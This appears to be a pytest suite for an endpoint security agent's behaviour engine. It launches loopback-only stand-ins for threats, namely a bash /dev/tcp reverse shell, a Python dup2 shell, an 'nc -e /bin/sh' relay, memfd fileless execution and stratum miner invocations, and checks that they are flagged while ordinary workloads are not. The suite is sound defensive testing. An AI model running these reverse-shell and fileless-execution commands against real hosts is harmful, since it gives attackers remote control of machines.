"""The behaviour engine against real processes that the tests start and kill.

Each signal is shown on a live process sampled through the agent's own sampler
(in-process, so the reason can be read); the targets run against the real
agent: a reverse shell and a busy miner become threats within 10 s, while
ordinary work, the console's tools and their children never do.
"""

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import time

import psutil
import pytest

from agent.behavior import THREAT_LINE, BehaviorEngine, IsolationForest
from agent.config import Config
from agent.db import Database
from agent.engines import NetworkIntel
from agent.events import EventLog
from agent import procfs
from agent.settings import Settings
from agent.telemetry import Telemetry
from agent.threats import ThreatStore
from conftest import Agent, wait_for


@contextlib.contextmanager
def running(argv, **kw):
    """A process group the test owns; killed, whatever happens."""
    proc = subprocess.Popen(argv, stdin=kw.pop("stdin", subprocess.DEVNULL), stdout=kw.pop("stdout", subprocess.DEVNULL),
                            stderr=subprocess.DEVNULL, start_new_session=True, **kw)
    try:
        yield proc
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(10)


def bound(host="127.0.0.1", port=0):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        srv.bind((host, port))
    except OSError:
        srv.close()
        raise
    srv.listen(8)
    return srv


def listener(host="127.0.0.1"):
    return contextlib.closing(bound(host))


def free_listener(ports):
    for port in ports:
        try:
            return bound(port=port)
        except OSError:
            continue
    pytest.skip("no stratum port free on loopback")


def reverse_shell(port):
    return ["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"]


def copy_program(src, dest):
    shutil.copy(src, dest)
    os.chmod(dest, 0o755)
    return dest


def script(path, body="sleep 60"):
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\n" + body + "\n")
    os.chmod(path, 0o755)
    return path


@pytest.fixture
def sampler(home):
    """The agent's sampler and behaviour engine in this process, with a stand-in temporary directory."""
    tmp = os.path.join(home, "tmp")
    os.makedirs(tmp)
    db = Database(os.path.join(home, "agent.db"))
    events = EventLog(db)
    config = Config(data_dir=home, socket_path=os.path.join(home, "s"), temp_dirs=(tmp,), busy_seconds=2.0)
    with open(os.path.join(home, "intel.txt"), "w") as fh:
        fh.write("127.0.0.2/32 listed for this test\n")
    telemetry = Telemetry(config, Settings(db), ThreatStore(db, events), events,
                          NetworkIntel(os.path.join(home, "intel.txt")), BehaviorEngine(config.temp_dirs, 2.0))
    telemetry.tmp = tmp
    yield telemetry
    db.close()


def judged(telemetry, match, timeout=20.0):
    """Samples until a process matching `match` shows a reason; returns that process."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        procs = telemetry.sample(full=False)
        hit = next((p for p in procs.values() if match(p) and p.reasons), None)
        if hit is not None:
            return hit
        time.sleep(0.3)
    raise AssertionError("no process matched with a reason")


class TestSignals:
    def test_interpreters_on_a_network_connection(self, sampler):
        # (A shell on one is a threat of the real agent below.)
        with listener() as srv:
            port = srv.getsockname()[1]
            py = ("import socket,os,time;s=socket.create_connection(('127.0.0.1',%d));"
                  "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);time.sleep(60)" % port)
            with running([sys.executable, "-c", py]) as pyshell:
                python = judged(sampler, lambda p: p.pid == pyshell.pid)
                assert python.score >= 0.97 and "network connection to 127.0.0.1:" in python.reasons[0]
            # A shell whose output is only a pipe or a Unix socket (a service's journal) is nothing.
            with running(["bash", "-c", "sleep 60; true"], stdout=subprocess.PIPE) as piped:
                time.sleep(0.3)
                procs = sampler.sample(full=False)
                assert procs[piped.pid].stdio_peer is None and procs[piped.pid].reasons == []

    def test_relay_handing_its_connection_to_a_shell(self, sampler, home):
        nc = script(os.path.join(home, "nc"))
        with running([nc, "-e", "/bin/sh", "127.0.0.1", "9"]) as proc:
            p = judged(sampler, lambda p: p.pid == proc.pid)
            assert p.score >= 0.95 and "relay" in p.reasons[0]
        with running([nc, "-z", "127.0.0.1", "9"]) as proc:
            time.sleep(0.3)
            assert sampler.sample(full=False)[proc.pid].reasons == []

    def test_executables_in_memory_deleted_or_replaced(self, sampler, home):
        code = ("import os;fd=os.memfd_create('payload');os.write(fd,open('/bin/sleep','rb').read());"
                "os.execv('/proc/self/fd/%d'%fd,['payload','60'])")
        doomed = copy_program("/bin/sleep", os.path.join(home, "dropper"))
        app = copy_program("/bin/sleep", os.path.join(home, "app"))
        with running([sys.executable, "-c", code]) as fileless, running([doomed, "60"]) as deleted, \
                running([app, "60"]) as upgraded:
            p = judged(sampler, lambda p: p.pid == fileless.pid)
            assert p.exe.startswith("/memfd:payload") and "only in memory" in p.reasons[0]
            os.unlink(doomed)
            os.rename(copy_program("/bin/sleep", app + ".new"), app)  # as a package manager does
            p = judged(sampler, lambda p: p.pid == deleted.pid)
            assert "deleted executable" in p.reasons[0]
            # Either alone is suspicious, not proof: the host-trained part must also find it unusual.
            assert p.score < THREAT_LINE
            # A replaced executable is an upgrade, not a deletion.
            p = sampler.sample(full=False)[upgraded.pid]
            assert p.exe.endswith(" (deleted)") and p.reasons == []

    def test_miners_by_options_and_pool_port(self, sampler, home, monkeypatch):
        # (One named like a miner is a threat of the real agent below.)
        worker = script(os.path.join(home, "worker"))
        with running([worker, "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"]) as invoked:
            # Read straight after a spawn, a process is often caught inside execve: its new
            # executable is in place, its arguments not yet. The first read here is that one.
            real, caught = procfs.cmdline, []

            def mid_exec(pid, *a, **kw):
                if pid == invoked.pid and not caught:
                    caught.append(pid)
                    return []
                return real(pid, *a, **kw)

            monkeypatch.setattr(procfs, "cmdline", mid_exec)
            p = judged(sampler, lambda p: p.pid == invoked.pid)
            assert caught and p.score >= 0.95
            assert "invoked like a cryptocurrency miner (stratum+tcp://" in p.reasons[0]
        srv = free_listener((3333, 14444, 45700, 5555))
        port = srv.getsockname()[1]
        try:
            code = "import socket,time;s=socket.create_connection(('127.0.0.1',%d));time.sleep(60)" % port
            with running([sys.executable, "-c", code]) as client:
                p = judged(sampler, lambda p: p.pid == client.pid)
                assert f"stratum) port: 127.0.0.1:{port}" in p.reasons[0] and p.score < THREAT_LINE
        finally:
            srv.close()

    def test_temporary_directory_adds_only_to_what_is_already_unusual(self, sampler, home):
        burner = copy_program("/usr/bin/yes", os.path.join(sampler.tmp, "burner"))
        idle = copy_program("/bin/sleep", os.path.join(sampler.tmp, "idle"))
        busy_home = copy_program("/usr/bin/yes", os.path.join(home, "busy"))
        with running([burner]) as hot, running([idle, "60"]) as cold, running([busy_home]) as warm:
            p = judged(sampler, lambda p: p.pid == hot.pid, timeout=30)
            assert p.score >= THREAT_LINE and "has kept a CPU core busy" in p.reasons[0]
            procs = sampler.sample(full=False)
            assert procs[cold.pid].score < 0.5 and procs[cold.pid].reasons == []
            assert procs[warm.pid].score < 0.5 and procs[warm.pid].reasons == []

class TestModel:
    def test_forest_ranks_like_the_reference_implementation(self):
        sklearn = pytest.importorskip("sklearn.ensemble")
        import random
        rng = random.Random(3)
        data = [[rng.gauss(0, 1) for _ in range(4)] for _ in range(600)]
        probes = data[:200] + [[rng.uniform(-8, 8) for _ in range(4)] for _ in range(40)]
        ours = IsolationForest(50, 256, seed=1).fit(data)
        ref = sklearn.IsolationForest(n_estimators=50, max_samples=256, random_state=1).fit(data)
        a = [ours.score(x) for x in probes]
        b = list(-ref.score_samples(probes))
        # Spearman rank correlation between the two forests' anomaly scores.
        def ranks(v):
            order = sorted(range(len(v)), key=v.__getitem__)
            r = [0] * len(v)
            for i, j in enumerate(order):
                r[j] = i
            return r
        ra, rb = ranks(a), ranks(b)
        n = len(a)
        rho = 1 - 6 * sum((x - y) ** 2 for x, y in zip(ra, rb)) / (n * (n * n - 1))
        assert rho > 0.9, rho
        assert 0.4 < sorted(a)[len(a) // 4] < 0.6  # ordinary points score about 0.5

def behaviour_threats(agent, pids=None):
    return [t for t in agent.data("threats", limit=1000)
            if t["kind"] == "behavior" and (pids is None or t.get("pid") in pids)]


class TestTargets:
    def test_reverse_shell_and_busy_miner_are_threats_within_ten_seconds(self, agent):
        with listener() as srv:
            port = srv.getsockname()[1]
            miner = copy_program("/usr/bin/yes", os.path.join(agent.shm, "xmrig"))
            started = time.monotonic()
            with running(reverse_shell(port)), running([miner]) as busy:
                shell = wait_for(lambda: next((t for t in behaviour_threats(agent)
                                               if f"127.0.0.1:{port}" in t.get("description", "")), None),
                                 10, what="reverse-shell threat")
                assert shell["severity"] == "critical" and shell["process_name"] == "bash"
                found = wait_for(lambda: behaviour_threats(agent, {busy.pid}), 10 - (time.monotonic() - started),
                                 what="miner threat")
                assert "miner" in found[0]["description"] and found[0]["path"] == miner
            # Ended processes leave resolved threats behind.
            wait_for(lambda: not [t for t in behaviour_threats(agent, {busy.pid, shell["pid"]})
                                  if t["status"] == "detected"], 20, what="threats resolved")

    def test_the_console_tools_and_their_children_are_trusted(self, agent):
        ctl = copy_program("/bin/bash", os.path.join(agent.tmp, "tessaly-ctl"))
        with listener() as srv:
            port = srv.getsockname()[1]
            with running([ctl, "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; true"]) as tool, \
                    running(reverse_shell(port)) as plain:
                wait_for(lambda: behaviour_threats(agent, {plain.pid} | {c.pid for c in
                                                                         psutil.Process(plain.pid).children(True)}),
                         15, what="the untrusted shell's threat")
                family = {tool.pid} | {c.pid for c in psutil.Process(tool.pid).children(True)}
                assert len(family) >= 2 and not behaviour_threats(agent, family)


class TestOrdinaryWork:
    def test_compiles_loops_requests_and_tests_raise_nothing(self, home):
        a = Agent(home, {"TSAV_AGENT_FIRST_FIT": "0"})
        a.start()
        workload = set()
        try:
            wait_for(lambda: any("behaviour model fitted" in e["action"] for e in a.data("events", limit=100)), 60,
                     what="behaviour model")
            source = os.path.join(home, "work.c")
            with open(source, "w") as fh:
                fh.write("#include <stdio.h>\nint main(void){unsigned long s=0;for(unsigned long i=0;i<300000000UL;"
                         "i++)s+=i*i;printf(\"%lu\\n\",s);return 0;}\n")
            # A checkout in /tmp builds and runs its programs there; one is rebuilt while it runs.
            build = ("for i in 1 2 3 4; do cc -O1 -o " + a.tmp + "/work " + source + " && " + a.tmp + "/work; done")
            app = copy_program("/bin/sleep", os.path.join(a.tmp, "app"))
            loops = "import time\nt=time.time()\nwhile time.time()-t<12: sum(range(10000))\n"
            tests = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-k", "clamd or journal or header",
                     os.path.join(os.path.dirname(__file__), "test_units.py")]
            with contextlib.ExitStack() as stack:
                server = stack.enter_context(running([sys.executable, "-u", "-m", "http.server", "--bind", "127.0.0.1",
                                                      "0"], cwd=home, stdout=subprocess.PIPE))
                port = int(wait_for(lambda: server.stdout.readline().split(b"port ")[1].split()[0], 20,
                                    what="http server"))
                curl = f"for i in $(seq 60); do curl -s -o /dev/null http://127.0.0.1:{port}/; sleep 0.2; done"
                procs = [stack.enter_context(running(argv, cwd=home)) for argv in
                         (["sh", "-c", build], [sys.executable, "-c", loops], ["sh", "-c", curl], tests, [app, "60"])]
                time.sleep(1)
                os.rename(copy_program("/bin/sleep", app + ".new"), app)
                top = 0.0
                deadline = time.monotonic() + 25
                while time.monotonic() < deadline and any(p.poll() is None for p in procs[:4]):
                    for p in procs + [server]:
                        with contextlib.suppress(psutil.Error):
                            workload |= {p.pid} | {c.pid for c in psutil.Process(p.pid).children(True)}
                    rows = a.data("processes")
                    top = max([top] + [r["score"] for r in rows if r["pid"] in workload])
                    time.sleep(0.5)
            assert len(workload) > 10
            assert top < THREAT_LINE
            assert behaviour_threats(a, workload | {a.proc.pid}) == []
        finally:
            a.stop()
